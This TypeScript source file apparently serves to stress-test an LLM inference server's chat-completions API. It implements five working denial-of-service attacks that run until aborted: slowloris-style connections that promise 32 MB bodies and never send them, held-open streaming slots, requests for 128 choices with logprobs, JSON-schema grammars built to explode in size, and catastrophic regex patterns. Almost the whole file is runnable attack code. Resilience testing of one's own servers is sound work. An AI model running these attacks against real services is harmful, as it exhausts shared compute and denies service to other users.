/** What one account can do to a server without breaking a rule of HTTP, as loops that go on until they are stopped. */

import { connect } from "node:net";
import type { Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { Pool } from "undici";

export interface AttackTarget {
  /** Of the API, with its port. */
  readonly baseUrl: string;
  readonly model: string;
  /** The attacker's. */
  readonly apiKey: string;
}

/** Of what an attacker got to see, by status; `closed` for a connection that the server ended. */
export type AttackCounts = Map<number | "closed", number>;

/** Goes on until the signal aborts, with everything closed that it opened. */
export type Attack = (target: AttackTarget, counts: AttackCounts, signal: AbortSignal) => Promise<void>;

type Body = Readonly<Record<string, unknown>>;

/** Between an answer and the next request, so that a refusal does not become a flood. */
const PAUSE_MS = 50;
const MESSAGES = [{ role: "user", content: "Tell me a long story." }];
const UPLOAD_BYTES = 32 * 1024 * 1024;
const UPLOADS = 8;
const STREAMS = 4;

function count(counts: AttackCounts, status: number | "closed"): void {
  counts.set(status, (counts.get(status) ?? 0) + 1);
}

/** Sends the bodies in turn, on so many connections. */
function askAgainAndAgain(bodies: readonly Body[], connections: number): Attack {
  return async ({ baseUrl, model, apiKey }, counts, signal) => {
    const pool = new Pool(new URL(baseUrl).origin, { headersTimeout: 0, bodyTimeout: 0 });
    const ask = async (index: number) => {
      for (let turn = index; !signal.aborted; turn += 1) {
        const body = JSON.stringify({ model, messages: MESSAGES, ...bodies[turn % bodies.length] });
        try {
          const answer = await pool.request({
            path: `${new URL(baseUrl).pathname}/chat/completions`,
            method: "POST",
            headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
            body,
            signal,
          });
          await answer.body.dump();
          count(counts, answer.statusCode);
        } catch {
          // Whether a cut connection is the server's end is seen by who watches the server.
          if (!signal.aborted) count(counts, "closed");
        }
        await wait(PAUSE_MS);
      }
    };
    await Promise.all(Array.from({ length: connections }, (_, index) => ask(index)));
    await pool.destroy();
  };
}

/** Opens so many connections, writes `head` on each and never reads; one that the server ends is opened again. */
function holdConnections(connections: number, makeBytes: (target: AttackTarget) => string): Attack {
  return async (target, counts, signal) => {
    const { hostname, port } = new URL(target.baseUrl);
    const sockets = new Set<Socket>();
    const open = () => {
      const socket = connect(Number(port), hostname, () => socket.write(makeBytes(target)));
      sockets.add(socket);
      socket.pause();
      // What stands behind it is the close that follows.
      socket.on("error", () => {});
      socket.on("close", () => {
        sockets.delete(socket);
        if (signal.aborted) return;
        count(counts, "closed");
        setTimeout(() => {
          if (!signal.aborted) open();
        }, PAUSE_MS);
      });
    };
    for (let index = 0; index < connections; index += 1) open();
    await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
    for (const socket of sockets) socket.destroy();
  };
}

function writeHead({ apiKey }: AttackTarget, bytes: number): string {
  return (
    "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n" +
    `authorization: Bearer ${apiKey}\r\ncontent-length: ${bytes}\r\n\r\n`
  );
}

function writeRequest(target: AttackTarget, body: Body): string {
  const text = JSON.stringify({ model: target.model, messages: MESSAGES, ...body });
  return writeHead(target, Buffer.byteLength(text)) + text;
}

function answerIn(schema: unknown): Body {
  return { response_format: { type: "json_schema", json_schema: { name: "s", strict: true, schema } } };
}

/** Each level holds the next one twice, so the shortest text doubles with each. */
function doubleInto(levels: number): unknown {
  const level = (index: number) => {
    const next = index === 0 ? { type: "string" } : { $ref: `#/$defs/d${index - 1}` };
    return { type: "object", properties: { a: next, b: next }, required: ["a", "b"], additionalProperties: false };
  };
  const $defs = Object.fromEntries(Array.from({ length: levels + 1 }, (_, index) => [`d${index}`, level(index)]));
  return { ...level(levels), $defs };
}

const FULL = { minItems: 1999, maxItems: 1999, type: "array" };

function patternObject(pattern: string): unknown {
  const properties = { a: { type: "string", pattern } };
  return { type: "object", properties, required: ["a"], additionalProperties: false };
}

const SCHEMAS: readonly Body[] = [
  {
    ...answerIn({ type: "object", properties: { a: { ...FULL, items: { ...FULL, items: { type: "string" } } } } }),
    max_tokens: 2,
  },
  { ...answerIn({ ...FULL, items: { ...FULL, items: { type: "string" } } }), max_tokens: 2 },
  { ...answerIn(doubleInto(17)), max_tokens: 2 },
  { ...answerIn(doubleInto(24)), max_tokens: 2 },
];

const PATTERNS: readonly Body[] = ["^(a?){1999}$", "^((a?){30}){30}$", "^(a?){500}$", "^(a|b?){200}$"].map(
  (pattern) => ({
    ...answerIn(patternObject(pattern)),
    max_tokens: 40,
  }),
);

/**
 * By name. `slots`, `choices`: much of the model at once; `schemas`, `patterns`: a grammar that explodes; `uploads`:
 * bodies that never come.
 */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  schemas: askAgainAndAgain(SCHEMAS, 2),
  uploads: holdConnections(UPLOADS, (target) => writeHead(target, UPLOAD_BYTES)),
  slots: holdConnections(STREAMS, (target) =>
    writeRequest(target, { stream: true, n: 4, logprobs: true, top_logprobs: 20, max_tokens: 1500 }),
  ),
  choices: askAgainAndAgain([{ n: 128, max_tokens: 8, logprobs: true, top_logprobs: 20 }], 2),
  patterns: askAgainAndAgain(PATTERNS, 2),
};
